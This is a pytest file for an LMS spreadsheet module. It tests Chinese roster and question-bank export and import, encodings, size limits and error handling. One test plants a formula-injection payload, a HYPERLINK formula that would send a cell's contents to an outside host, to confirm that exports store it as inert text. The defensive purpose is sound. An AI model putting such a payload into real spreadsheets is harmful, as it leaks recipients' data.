"""One spreadsheet module (issue 18): every export is written by `lms.spreadsheets.Book`
(XlsxWriter, constant memory, strings never formulas) and every import read by
`lms.spreadsheets.read_table` (XLSX behind the zip guard, CSV in UTF-8 or GB18030)."""

import datetime
import io
import os
import tempfile
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lms import spreadsheets
from lms.spreadsheets import Book, Column, SheetTooLarge, UnreadableSpreadsheet, read_table
from training.models import Enrolment, ImportBatch
from training.services.roster import roster_import_preview

HOSTILE = '=HYPERLINK("http://x"&D2,"x")'


def _book(rows, columns=("姓名", "单位", "日期", "学时")) -> bytes:
    with Book() as book:
        book.sheet("花名册", list(columns)).rows_from(rows)
    return book.getvalue()


# --- writing -------------------------------------------------------------------------


def test_a_sheet_has_a_bold_frozen_chinese_header_and_real_values():
    when = datetime.datetime(2026, 12, 1, 1, 30, tzinfo=datetime.UTC)
    content = _book(
        [
            ["张新民", "罗山县周党镇东湾村", datetime.date(2026, 11, 23), Decimal("1.5")],
            ["李红梅", None, when, 3],
        ],
        columns=("姓名", "单位", "日期", "学时"),
    )
    sheet = load_workbook(io.BytesIO(content))["花名册"]
    assert [c.value for c in sheet[1]] == ["姓名", "单位", "日期", "学时"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["C2"].value == datetime.datetime(2026, 11, 23)
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["C3"].value == datetime.datetime(2026, 12, 1, 9, 30)  # local time (+8)
    assert sheet["D2"].value == 1.5 and sheet["D3"].value == 3
    assert sheet["B3"].value is None


def test_text_is_never_a_formula_a_link_or_a_number():
    content = _book([[HOSTILE, "http://evil.example/", "0012", "+1+1"]], columns="ABCD")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in xml and b"<hyperlink" not in xml
        assert not [n for n in archive.namelist() if "rels/sheet1" in n]  # no link parts
    sheet = load_workbook(io.BytesIO(content)).active
    cells = sheet[2]
    assert [c.value for c in cells] == [HOSTILE, "http://evil.example/", "0012", "+1+1"]
    assert {c.data_type for c in cells} == {"s"}


def test_columns_are_fitted_to_chinese_text_counting_each_character_twice():
    content = _book([["罗山县周党镇东湾村党支部", "abc"]], columns=("单位", "ab"))
    sheet = load_workbook(io.BytesIO(content)).active
    # 12 CJK characters need 24 columns (plus a margin); "abc" the minimum.
    assert 24 < sheet.column_dimensions["A"].width < 30
    assert sheet.column_dimensions["B"].width < 10
    assert spreadsheets.text_width("东湾村") == 6 and spreadsheets.text_width("abc") == 3


def test_a_fixed_width_is_kept_and_control_characters_are_dropped():
    content = _book([["a\x01b"]], columns=[Column("备注", 30)])
    sheet = load_workbook(io.BytesIO(content)).active
    assert int(sheet.column_dimensions["A"].width) == 30
    assert sheet["A2"].value == "ab"


def test_a_build_that_fails_half_way_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # XlsxWriter's row files too

    def rows():
        yield ["张新民", "东湾村"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError), Book() as book:
        book.sheet("花名册", ["姓名", "单位"]).rows_from(rows())
    assert os.listdir(tmp_path) == []


def test_the_download_is_streamed_from_a_file():
    with Book() as book:
        book.sheet("学习进度", ["姓名"]).rows_from([["学员甲"]] * 3)
    response = book.response("集体经济-学习进度.xlsx")
    assert response.streaming and response["Content-Type"] == spreadsheets.XLSX_MIME
    assert "attachment" in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.getvalue())).active.values)
    assert rows == [("姓名",), ("学员甲",), ("学员甲",), ("学员甲",)]


# --- reading -------------------------------------------------------------------------

CSV_TEXT = (
    "姓名,手机号,单位\n张新民,13800001001,罗山县周党镇东湾村\n\n李红梅, 13800001002 ,东湾村\n"
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_is_read_in_utf8_with_or_without_bom_or_gb18030(encoding):
    table = read_table(CSV_TEXT.encode(encoding), file_name="花名册.CSV", max_rows=10)
    assert table == [
        ["姓名", "手机号", "单位"],
        ["张新民", "13800001001", "罗山县周党镇东湾村"],
        [],
        ["李红梅", "13800001002", "东湾村"],
    ]


def test_an_xlsx_is_read_as_text_with_blank_rows_kept():
    content = _book([["张新民", 13800001001.0, datetime.date(2026, 1, 2), 2.5], [], ["x"]])
    table = read_table(content, file_name="x.xlsx", max_rows=10)
    assert table[1] == ["张新民", "13800001001", "2026-01-02 00:00:00", "2.5"]
    assert len(table) == 4


def test_a_csv_that_is_not_text_is_refused_in_chinese():
    with pytest.raises(UnreadableSpreadsheet) as caught:
        read_table(b"\x81\x30\x81", file_name="x.csv", max_rows=10)
    assert caught.value.code == "unreadable_file"
    assert "CSV" in str(caught.value.message) and "GB18030" in str(caught.value.message)


def test_rows_past_the_limit_are_refused():
    with pytest.raises(SheetTooLarge):
        read_table(("a\n" * 11).encode(), file_name="x.csv", max_rows=10)
    with pytest.raises(SheetTooLarge):
        read_table(_book([["a"]] * 11, columns=["a"]), file_name="x.xlsx", max_rows=10)


# --- imports -------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_roster_in_gb18030_csv_imports(world):
    from tests.training.factories import class_for_world

    klass = class_for_world(world)
    text = (
        "序号,姓名,性别,手机号,单位,职务,职级,组别\n"
        "1,张新民,男,13800001001,罗山县周党镇东湾村,书记,无,第一组\n"
    )
    batch, check = roster_import_preview(
        actor=world.organiser,
        training_class=klass,
        upload=io.BytesIO(text.encode("gb18030")),
        filename="花名册.csv",
    )
    assert check.is_valid, [r.messages for r in check.rows]
    assert check.rows[0].phone == "13800001001" and batch.kind == ImportBatch.Kind.ROSTER


@pytest.mark.django_db
def test_a_question_file_in_utf8_bom_csv_is_staged_in_the_shared_model(world):
    from assessments.services.questions import HEADERS, question_import_stage

    row = dict.fromkeys(HEADERS, "")
    row.update(分类="先导区", 题型="判断", 题干="孟州有5个区域化党委。", 正确答案="正确")
    text = ",".join(HEADERS) + "\n" + ",".join(row[h] for h in HEADERS) + "\n"
    batch = question_import_stage(
        content=text.encode("utf-8-sig"), file_name="题库.csv", actor=world.instructor
    )
    assert batch.kind == ImportBatch.Kind.QUESTIONS and batch.training_class is None
    assert batch.rows[0]["stem"] == "孟州有5个区域化党委。"


def _broken_xlsx() -> bytes:
    """A real workbook cut short: a zip without its directory."""
    return _book([["张新民"]])[:-200]


def _xlsx_without_sheet() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("content", [_broken_xlsx(), _xlsx_without_sheet()])
def test_a_broken_roster_xlsx_gives_a_chinese_error_and_writes_nothing(client, world, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.training.factories import class_for_world

    klass = class_for_world(world)
    enrolments = Enrolment.objects.count()
    client.force_login(world.organiser)
    response = client.post(
        reverse("training_admin:roster_import", args=[klass.pk]),
        {"file": SimpleUploadedFile("花名册.xlsx", content)},
    )
    assert response.status_code == 200
    assert "无法读取该文件" in response.content.decode()
    assert not ImportBatch.objects.exists() and Enrolment.objects.count() == enrolments


@pytest.mark.django_db
def test_a_broken_question_xlsx_gives_a_chinese_error_and_writes_nothing(client, world):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(world.instructor)
    response = client.post(
        reverse("assessments_admin:questions_import"),
        {"file": SimpleUploadedFile("题库.xlsx", _broken_xlsx())},
    )
    assert response.status_code == 200
    assert "无法读取该文件" in response.content.decode()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_an_oversized_question_xlsx_is_refused_in_chinese_and_writes_nothing(
    client, world, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.SPREADSHEET_UPLOAD_MAX_SIZE = 1000
    client.force_login(world.instructor)
    response = client.post(
        reverse("assessments_admin:questions_import"),
        {"file": SimpleUploadedFile("题库.xlsx", _book([["x" * 50]] * 200))},
    )
    assert response.status_code == 200
    assert "MB" in response.content.decode() and "文件" in response.content.decode()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_an_unconfirmed_question_file_is_purged_with_the_other_uploads(world):
    from assessments.services.questions import HEADERS, question_import_stage

    row = dict.fromkeys(HEADERS, "")
    row.update(分类="先导区", 题型="判断", 题干="题干", 正确答案="正确")
    text = ",".join(HEADERS) + "\n" + ",".join(row[h] for h in HEADERS) + "\n"
    old = question_import_stage(content=text.encode(), file_name="a.csv", actor=world.instructor)
    ImportBatch.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=2)
    )
    fresh = question_import_stage(content=text.encode(), file_name="b.csv", actor=world.instructor)
    assert list(ImportBatch.objects.values_list("pk", flat=True)) == [fresh.pk]


@pytest.mark.django_db(transaction=True)
def test_the_migration_keeps_staged_question_files_under_their_token(world):
    """A preview open while PendingImport becomes ImportBatch still confirms."""
    import uuid

    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    before = [("assessments", "0008_field_verbose_names")]
    after = [("assessments", "0009_pendingimport_into_importbatch")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    try:
        old = executor.loader.project_state(before).apps
        token = uuid.uuid4()
        when = timezone.now() - datetime.timedelta(hours=3)
        pending = old.get_model("assessments", "PendingImport").objects.create(
            token=token, uploaded_by_id=world.instructor.pk, file_name="题库.xlsx", rows=[{"a": 1}]
        )
        type(pending).objects.filter(pk=pending.pk).update(created_at=when)
        executor = MigrationExecutor(connection)
        executor.migrate(after)
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
    batch = ImportBatch.objects.get(pk=token)
    assert (batch.kind, batch.filename, batch.rows) == ("questions", "题库.xlsx", [{"a": 1}])
    assert batch.created_by == world.instructor and batch.created_at == when
    assert batch.confirmed_at is None and batch.training_class is None
